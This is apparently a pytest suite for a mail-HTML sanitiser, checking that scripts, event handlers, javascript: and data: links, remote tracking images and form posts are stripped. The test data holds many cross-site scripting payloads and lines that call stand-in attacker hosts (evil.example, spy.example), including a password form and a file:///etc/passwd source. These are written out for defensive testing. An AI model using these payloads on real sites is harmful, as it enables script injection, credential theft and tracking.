"""HTML from strangers is kept by an allow-list, and nothing that is kept calls home."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.integrations.mailbox.clean import as_text, clean
from tests.page_client import read

HARMLESS = {
    "a",
    "b",
    "blockquote",
    "br",
    "div",
    "em",
    "hr",
    "i",
    "img",
    "li",
    "p",
    "pre",
    "span",
    "table",
    "td",
    "tr",
    "ul",
}


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href=' \x01javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='x.swf'></object><embed src='x.swf'>",
        "<form action='https://evil.example'><input name=password></form>",
        "<style>body{background:url(https://spy.example)}</style>",
        "<p style='background:url(https://spy.example)'>x</p>",
        "<p style='position:fixed;inset:0'>x</p>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "<p id=main class=button hx-get='/tickets'>x</p>",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<a href='//evil.example'>x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
    ],
)
def test_what_could_do_something_is_gone(html):
    kept = clean(html) or ""

    lower = kept.lower()
    for danger in (
        "script",
        "onerror",
        "onfocus",
        "ontoggle",
        "style",
        "evil.example",
        "spy.example",
        "hx-",
        "id=",
        "class=",
    ):
        assert danger not in lower, kept
    assert {one.tag for one in read(kept)} <= HARMLESS


@pytest.mark.parametrize(
    "source",
    [
        "https://spy.example/pixel.gif",
        "http://spy.example/pixel.gif",
        "//spy.example/pixel.gif",
        "pixel.gif",
        "ftp://spy.example/x",
        "data:image/svg+xml,<svg onload=alert(1)>",
        'cid:a" onerror="alert(1)',
        "file:///etc/passwd",
        "HTTPS://SPY.EXAMPLE/x",
    ],
)
def test_an_image_from_outside_the_mail_is_never_loaded(source):
    kept = clean(f"<img alt='the logo' src='{source}'>") or ""

    assert "src" not in kept
    assert 'alt="the logo"' in kept


def test_an_image_of_the_mail_is_kept():
    assert clean('<img src="cid:photo@1" width="20">') == '<img src="cid:photo@1" width="20">'


def test_links_are_kept_and_tell_nobody_where_they_come_from():
    kept = clean('<a href="https://a.example/b?c=1" onclick="x()">there</a>') or ""

    assert 'href="https://a.example/b?c=1"' in kept
    assert 'rel="noopener noreferrer nofollow"' in kept
    assert "onclick" not in kept


def test_the_words_of_what_is_removed_stay():
    assert clean("<form><label>Room <b>204</b></label></form>") == "Room <b>204</b>"


def test_what_cannot_be_cleaned_in_time_is_refused():
    assert clean("<div>" * 5000) is None
    assert clean("x" * 2_000_001) is None
    assert clean("<p>" * 5000) is not None


@given(st.text(alphabet="<>/=\"' abisrcpthonelg&;:-!\x00\n", max_size=200))
def test_whatever_it_is_given_no_handler_and_no_foreign_address_comes_out(html):
    for one in read(clean(html) or ""):
        assert not any(name.startswith("on") for name in one.attributes)
        assert one.get("src") is None or one["src"].startswith("cid:")


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("one<br>two", "one\ntwo"),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two</div>", "one\n\ntwo".replace("\n\n", "\n\n")),
        ("<ul><li>one</li><li>two</li></ul>", "- one\n- two"),
        ('<a href="mailto:a@b.example">a@b.example</a>', "a@b.example"),
        ("<style>p{}</style><script>x</script>seen", "seen"),
        ("a &lt;b&gt; &amp; c", "a <b> & c"),
        ('<img alt="a cat" src="cid:x">', "[a cat]"),
        (
            "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>",
            "a b\n\nc".replace("\n\n", "\n\n"),
        ),
    ],
)
def test_it_is_told_as_text(html, text):
    assert as_text(html).replace("\n\n", "\n") == text.replace("\n\n", "\n")


def test_a_script_in_pieces_is_text():
    kept = clean("<<script>script>alert(1)<</script>/script>") or ""

    assert "<" not in kept
    assert "alert" not in kept
